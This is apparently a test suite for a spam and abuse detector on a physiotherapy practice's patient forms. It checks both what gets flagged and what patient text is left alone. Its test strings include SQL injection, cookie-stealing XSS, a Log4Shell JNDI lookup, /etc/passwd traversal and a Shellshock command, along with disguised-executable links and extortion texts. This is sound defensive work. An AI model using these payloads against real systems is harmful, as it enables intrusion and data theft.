/**
 * Per-field signals: every field of every form type is read, and what patients write by accident
 * (a refund IBAN, a link to their own CV, "keine" in three anamnesis answers) stays harmless.
 */
import { describe, expect, it } from 'vitest';
import { createEngine } from './engine.js';
import { flatten } from './prepare.js';
import { fieldReasons, isKeyboardWalk, isRandomToken, isRepeatedUnit } from './signals.js';

const reasons = (formData: Record<string, unknown>) => fieldReasons(flatten(formData)).map((r) => r.reason);
const points = (formData: Record<string, unknown>) =>
  fieldReasons(flatten(formData)).reduce((sum, r) => sum + r.points, 0);
const engine = createEngine((t) => t);
const score = (formType: string, formData: Record<string, unknown>) =>
  engine.score({ tenantId: 't', formType, formData }).score;

describe('shape of a field', () => {
  it('knows random strings, keyboard walks and repeated units, and not names', () => {
    for (const t of ['XvBnqTrLpwKzMf', 'qwertzuiop', 'asdfghjkl', 'a8f3k2m9', 'Lmw9xZ2Qp', 'asdasd', 'jkjkjk', 'zzzz'])
      expect(isRandomToken(t), t).toBe(true);
    for (const t of [
      'Brandt',
      'Schmidt',
      'Krankengymnastik',
      'Angstschweiß',
      'Rückenschmerzen',
      'KW12',
      'B1',
      'Nguyen',
      'McDonald',
    ])
      expect(isRandomToken(t), t).toBe(false);
    expect(isKeyboardWalk('yxcvbnm')).toBe(true);
    expect(isKeyboardWalk('termin')).toBe(false);
    expect(isRepeatedUnit('hahaha')).toBe(true);
  });

  it('flags one token in every field, in every form type', () => {
    expect(reasons({ name: 'xkq2', phone: 'xkq2', diagnosis: 'xkq2', treatment: 'xkq2', doctor: 'xkq2' })).toContain(
      'Derselbe Wert in 5 Feldern („xkq2“)',
    );
    expect(
      points({ bodyParts: 'zzzz', painType: 'zzzz', medicationsDetails: 'zzzz', expectationsText: 'zzzz' }),
    ).toBeGreaterThanOrEqual(50);
    expect(
      score('anamnese', { name: 'Robertbep', beschwerden: 'Robertbep', seit: 'Robertbep', ziel: 'Robertbep' }),
    ).toBeGreaterThanOrEqual(50);
  });

  it('lets anamnesis answers repeat "keine", "-" and "nein"', () => {
    expect(
      points({
        name: 'Karin Ludwig',
        medikamente: 'keine',
        vorerkrankungen: 'keine',
        operationen: 'keine',
        ziel: 'wandern',
      }),
    ).toBe(0);
    expect(points({ medicationsDetails: '-', comorbiditiesDetails: '-', expectationsText: '-', painLevel: '3' })).toBe(
      0,
    );
  });
});

describe('links', () => {
  it('knows executables, archives, shorteners, raw IPs, punycode and lookalike hosts in any field', () => {
    expect(reasons({ nachricht: 'Lebenslauf: http://cv.example.com/Lebenslauf.pdf.exe' })).toContain(
      'Link auf getarnte Programmdatei (doppelte Endung)',
    );
    expect(reasons({ hinweise: 'https://files-share-docs.top/rezept_scan.zip' })).toContain(
      'Link auf ein Archiv (ZIP/RAR)',
    );
    expect(reasons({ name: 'https://bit.ly/3rZpT9x' })).toContain('Link in einem Feld, das keinen Link erwartet');
    expect(reasons({ doctor: 'http://198.51.100.77/scan/rezept.pdf' })).toContain('Link auf eine nackte IP-Adresse');
    expect(reasons({ hinweise: 'https://xn--drpbox-wxa.com/s/verordnung' })).toContain(
      'Link mit Punycode-Domain (Lookalike)',
    );
    expect(reasons({ nachricht: 'https://sparkasse-pushtan-update.com' })).toContain(
      'Link auf eine nachgeahmte Marken-Domain',
    );
  });

  it('leaves a link to a CV on a known host or a photo field alone', () => {
    expect(
      points({ nachricht: 'Unterlagen: https://drive.google.com/file/d/1Xk9/view', position: 'Physio' }),
    ).toBeLessThan(20);
    expect(points({ foto: 'https://cloud.familie-ziegler.de/s/Rezept_Maerz.jpg', heilmittel: 'MT' })).toBeLessThan(30);
  });
});

describe('payloads of vulnerability scanners', () => {
  it('finds SQL, script, template, path and command injection in any field', () => {
    for (const payload of [
      "' OR '1'='1' --",
      '1 UNION SELECT username,password FROM users--',
      "'; WAITFOR DELAY '0:0:5'--",
      '<script>alert(document.cookie)</script>',
      '"><img src=x onerror=alert(1)>',
      '{{7*7}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, literally
      '${jndi:ldap://203.0.113.1/a}',
      '../../../../etc/passwd',
      "() { :; }; /bin/bash -c 'id'",
    ])
      expect(points({ diagnosis: payload }), payload).toBeGreaterThanOrEqual(50);
  });

  it('does not mistake patients’ punctuation for a payload', () => {
    for (const text of [
      'Termin am Mo. -- Do. ginge, 8-10 Uhr',
      "Ich hab's im Knie, 'ne Arthrose",
      'Schmerz 7/10, <50 m Gehstrecke',
      'Kosten: 30 € (privat) -> ok?',
    ])
      expect(points({ nachricht: text }), text).toBe(0);
  });
});

describe('contact and money', () => {
  it('knows dotted free-mail, premium numbers and nonsense addresses', () => {
    expect(reasons({ email: 'e.l.l.a.c.l.i.m.i.77@gmail.com' })).toContain(
      'Free-Mail-Adresse mit Punkt-Trick (e.l.l.a…)',
    );
    expect(points({ telefon: '0900 5123456', nachricht: 'Bitte zurückrufen' })).toBeGreaterThanOrEqual(50);
    expect(reasons({ email: 'test@test.com' })).toContain('Erfundene E-Mail-Adresse (test@test…)');
    // A number from far away is a weak signal only; a neighbour's number none.
    expect(fieldReasons(flatten({ telefon: '+92 300 1234567' }))).toEqual([
      { reason: 'Rufnummer aus einem fernen Land', points: 10 },
    ]);
    expect(points({ telefon: '+43 664 1234567' })).toBe(0);
  });

  it('knows damages demands, payment demands with an IBAN, overpayment set-ups and extortion', () => {
    expect(
      points({
        nachricht:
          'Wegen Google Fonts fordern wir Schadensersatz von 170 € bis zum 15., Konto DE89 3704 0044 0532 0130 00.',
      }),
    ).toBeGreaterThanOrEqual(50);
    expect(
      points({
        nachricht: 'I want to book 10 sessions, I will pay by credit card in advance and my assistant will collect.',
      }),
    ).toBeGreaterThanOrEqual(45);
    expect(points({ nachricht: 'I recorded you via webcam. Pay 800 USD in Bitcoin.' })).toBeGreaterThanOrEqual(50);
  });

  it('lets a patient ask for a refund to their IBAN and ask about a reminder', () => {
    expect(
      points({
        nachricht:
          'Ich habe doppelt überwiesen. Können Sie mir das zurückzahlen? Meine IBAN ist DE12 5005 0201 0123 4567 89.',
      }),
    ).toBeLessThan(30);
    expect(
      points({ nachricht: 'Ich habe eine Mahnung über 30 € bekommen, hatte aber rechtzeitig abgesagt.' }),
    ).toBeLessThan(30);
  });
});

describe('every form type is read, not only the message', () => {
  it('scores spam in prescription, application, course and anamnesis fields', () => {
    expect(
      score('prescription', {
        name: 'Shop',
        phone: '+31 6 12345678',
        heilmittel: 'Ozempic ohne Rezept',
        hinweise: 'bestellen unter www.abnehm-shop.example.com',
      }),
    ).toBeGreaterThanOrEqual(50);
    expect(
      score('anamnese', {
        bodyParts: 'https://is.gd/Qm2xLp',
        medicationsDetails: 'https://is.gd/Qm2xLp',
        expectationsText: 'https://is.gd/Qm2xLp',
      }),
    ).toBeGreaterThanOrEqual(50);
    expect(
      score('training', {
        name: 'Togel',
        email: 'togel@gmail.com',
        kurs: 'togel hongkong',
        nachricht: 'Bandar togel online terpercaya, bo slot gacor.',
      }),
    ).toBeGreaterThanOrEqual(50);
  });
});

describe('files named in the text', () => {
  it('flags programs, disguised extensions and archives with a password, not documents', () => {
    expect(points({ nachricht: 'Anbei mein Lebenslauf: Lebenslauf_Lindner.pdf.scr' })).toBeGreaterThanOrEqual(50);
    // A "document" that is a web page: a fake login opens in the browser.
    expect(points({ 'Rezept-Upload': 'Verordnung_scan.pdf.html' })).toBeGreaterThanOrEqual(50);
    expect(points({ nachricht: 'Mein Rezept: scan_2026.pdf, Befund als befund.html geht nicht' })).toBe(0);
    expect(
      points({ anschreiben: 'Meine Unterlagen als Bewerbung_2026.iso zum Herunterladen.' }),
    ).toBeGreaterThanOrEqual(40);
    expect(
      points({
        nachricht: 'Die Unterlagen finden Sie im Anhang. Bitte öffnen Sie die ZIP-Datei mit dem Passwort 1234.',
      }),
    ).toBeGreaterThanOrEqual(40);
    expect(points({ nachricht: 'Rezept als Foto: rezept_scan.jpg, Befund als befund.pdf.' })).toBe(0);
    expect(points({ nachricht: 'Mein Passwort für das Patientenportal geht nicht, können Sie helfen?' })).toBe(0);
    expect(points({ nachricht: 'Wir sind nach DIN EN ISO 9001 zertifiziert und suchen einen Kurs für 8 Leute.' })).toBe(
      0,
    );
  });

  it('flags a directory-service number (118xy) as the number to call back', () => {
    expect(
      points({ telefon: '118 77 9', nachricht: 'Bitte über die Vermittlung zurückrufen.' }),
    ).toBeGreaterThanOrEqual(50);
    expect(points({ telefon: '0221 1188 734' })).toBe(0);
  });
});
